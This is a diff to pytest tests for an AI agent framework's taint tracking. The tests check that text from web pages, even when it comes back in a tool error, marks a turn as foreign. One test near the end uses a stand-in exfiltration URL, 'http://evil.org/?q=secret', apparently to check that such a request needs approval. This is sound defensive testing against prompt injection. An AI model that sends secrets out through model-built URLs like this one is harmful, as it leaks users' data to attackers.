@@ -11,10 +11,17 @@ from typing import Any
 
 import pytest
 
+from bubbot.errors import ToolFailed
 from bubbot.models.scripted import ScriptedModel
+from bubbot.ports.channel import Inbound, Sender
 from bubbot.ports.model import ModelEvent, ModelReply, ModelRequest, ToolCall, Usage
+from bubbot.ports.tool import Toolbox, digest_call, tool
+from bubbot.ports.turn import AcceptedInbound, Turn
+from bubbot.runtime.calls import ToolCallRunner, ToolLimits
+from bubbot.runtime.effects import AttemptRecord, EffectRun, RecordedCall
+from bubbot.runtime.tool_list import ToolList
 from bubbot.tape.provenance import Source, source_of
-from tests.approving import SANDBOXED, acting_tools, approving
+from tests.approving import SANDBOXED, PostArgs, acting_tools, approving
 from tests.turns import Played, calls, says
 
 READ = calls("page_read", address="http://x.org/")
@@ -79,6 +86,32 @@ class TestTaint:
             await bench.say(f",approve {card}")
             assert bench.done == [("page.read", "http://x.org/"), ("post.send", "bob: hello")]
             assert [source_of(entry) for entry in await bench.events("effect.begin")] == [Source.WORLD]
+
+    @pytest.mark.law("T22")
+    async def test_an_error_from_the_record_is_as_foreign_as_its_tool(self, begin: Any) -> None:
+        """It may quote a page."""
+
+        @tool("page.post")
+        async def page_post(turn: Turn, args: PostArgs) -> str:
+            """Answer with words from anywhere."""
+            return "words of a page"
+
+        inbound = Inbound("test", "e1", "default", Sender("1"), "go", "2026-11-21T20:21:00+00:00")
+        turn = await begin(inbounds=[AcceptedInbound(1, inbound, 1, "t0")])
+        args, call = PostArgs(to="a"), ToolCall("c1", "page_post", '{"to": "a"}')
+        recorded = RecordedCall(
+            call.id,
+            call.name,
+            call.arguments,
+            content="words of a page",
+            is_error=True,
+            digest=digest_call(page_post, args),
+        )
+        turn.metadata[AttemptRecord] = AttemptRecord([recorded])
+        runner = ToolCallRunner(ToolList(Toolbox([page_post])), ToolLimits())
+        with pytest.raises(ToolFailed, match="words of a page"):
+            await runner.invoke(turn, page_post, args, EffectRun(), call)
+        assert turn.tape.source is Source.WORLD
 
     async def test_an_address_that_a_model_composed_asks_once_the_turn_is_tainted(self, tmp_path: Path) -> None:
         second = calls("page_read", address="http://evil.org/?q=secret")
